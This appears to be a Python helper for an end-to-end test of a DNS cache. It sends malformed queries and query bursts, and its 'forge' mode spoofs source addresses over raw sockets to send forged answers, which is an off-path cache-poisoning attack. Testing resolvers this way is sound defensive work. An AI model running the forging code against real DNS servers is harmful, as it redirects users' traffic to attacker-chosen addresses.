#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Hostile DNS traffic for e2e_poison.sh (standard library only; root for `forge`).

  hostile.py ask ADDR KIND
      Sends one query of KIND to ADDR port 53 over UDP and prints the answer's rcode (with the
      OPT's extended bits: BADVERS is 16), or "none" after 2 s. KIND: garbage (a header whose
      question runs past the end), noquestion (QDCOUNT 0), update (opcode 5), badvers (EDNS
      version 1), twoopt (two OPT records), ok (a plain query for ok.poison.test A).

  hostile.py burst ADDR NAME N
      Sends N queries for NAME A (distinct IDs, one socket) to ADDR port 53 at once, collects
      the answers for 5 s and prints "none:COUNT" (unanswered), then "RCODE:COUNT" for each
      rcode seen, in order.

  hostile.py forge SRC DST NAMESFILE ADDR COUNT SECONDS
      An off-path attacker: at most COUNT forged answers, for at most SECONDS, from SRC port 53
      (spoofed with a raw socket) to DST, each a NOERROR answer "NAME A ADDR" (TTL 3600) for a
      name of NAMESFILE in turn, with a random ID, to a random port of Linux's ephemeral range
      (one in 16 to port 53, the cache's service). Prints "forged N in S s".
"""
import random
import socket
import struct
import sys
import time

EPHEMERAL = (32768, 60999)  # /proc/sys/net/ipv4/ip_local_port_range's default


def wire_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def question(name, qtype=1):
    return wire_name(name) + struct.pack("!HH", qtype, 1)


def opt(version=0):
    # root owner, type OPT, class = UDP size, TTL = ext rcode, version, flags; no options
    return b"\0" + struct.pack("!HHBBHH", 41, 1232, 0, version, 0, 0)


def query(kind, qid):
    q = question("ok.poison.test")
    if kind == "garbage":
        return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + b"\x3fabc"
    if kind == "noquestion":
        return struct.pack("!HHHHHH", qid, 0x0100, 0, 0, 0, 0)
    if kind == "update":
        return struct.pack("!HHHHHH", qid, 0x0100 | 5 << 11, 1, 0, 0, 0) + q
    if kind == "badvers":
        return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 1) + q + opt(1)
    if kind == "twoopt":
        return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 2) + q + opt() + opt()
    if kind == "ok":
        return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q
    raise SystemExit("unknown kind " + kind)


def skip_name(msg, pos):
    while True:
        n = msg[pos]
        if n & 0xC0 == 0xC0:
            return pos + 2
        pos += 1 + n
        if n == 0:
            return pos


def rcode_of(msg):
    qid, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", msg[:12])
    rcode, pos = flags & 0xF, 12
    for _ in range(qd):
        pos = skip_name(msg, pos) + 4
    for i in range(an + ns + ar):
        pos = skip_name(msg, pos)
        rtype, _, ttl, rdlen = struct.unpack("!HHIH", msg[pos:pos + 10])
        if rtype == 41 and i >= an + ns:
            rcode |= (ttl >> 24) << 4
        pos += 10 + rdlen
    return rcode


def ask(addr, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    qid = random.getrandbits(16)
    s.sendto(query(kind, qid), (addr, 53))
    try:
        msg = s.recv(65535)
    except socket.timeout:
        print("none")
        return
    print(rcode_of(msg) if struct.unpack("!H", msg[:2])[0] == qid else "wrong-id")


def burst(addr, name, n):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ids = random.sample(range(65536), n)
    for qid in ids:
        s.sendto(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + question(name), (addr, 53))
    counts, pending, deadline = {}, set(ids), time.monotonic() + 5
    while pending and time.monotonic() < deadline:
        s.settimeout(max(deadline - time.monotonic(), 0.01))
        try:
            msg = s.recv(65535)
        except socket.timeout:
            break
        qid = struct.unpack("!H", msg[:2])[0]
        if qid in pending:
            pending.discard(qid)
            rcode = rcode_of(msg)
            counts[rcode] = counts.get(rcode, 0) + 1
    print(" ".join(["none:%d" % len(pending)] + ["%d:%d" % kv for kv in sorted(counts.items())]))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def forge(src, dst, names_file, addr, count, seconds):
    names = [n.strip() for n in open(names_file) if n.strip()]
    answer = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(addr)
    bodies = [question(n) + answer for n in names]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    start = time.monotonic()
    deadline = start + seconds
    sent = 0
    while sent < count and time.monotonic() < deadline:
        body = bodies[sent % len(bodies)]
        dns = struct.pack("!HHHHHH", random.getrandbits(16), 0x8180, 1, 1, 0, 0) + body
        dport = 53 if random.getrandbits(4) == 0 else random.randint(*EPHEMERAL)
        udp_len = 8 + len(dns)
        pseudo = src_b + dst_b + struct.pack("!BBH", 0, 17, udp_len)
        udp = struct.pack("!HHHH", 53, dport, udp_len, 0) + dns
        udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
        # the kernel fills in the IP checksum and ID (IP_HDRINCL, raw(7))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, src_b, dst_b)
        try:
            raw.sendto(ip + udp, (dst, 0))
        except OSError:
            time.sleep(0.001)  # a full queue: let it drain
            continue
        sent += 1
    print("forged %d in %.1f s" % (sent, time.monotonic() - start))


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "ask":
        ask(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 5 and sys.argv[1] == "burst":
        burst(sys.argv[2], sys.argv[3], int(sys.argv[4]))
    elif len(sys.argv) == 8 and sys.argv[1] == "forge":
        forge(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]),
              float(sys.argv[7]))
    else:
        sys.exit(__doc__)
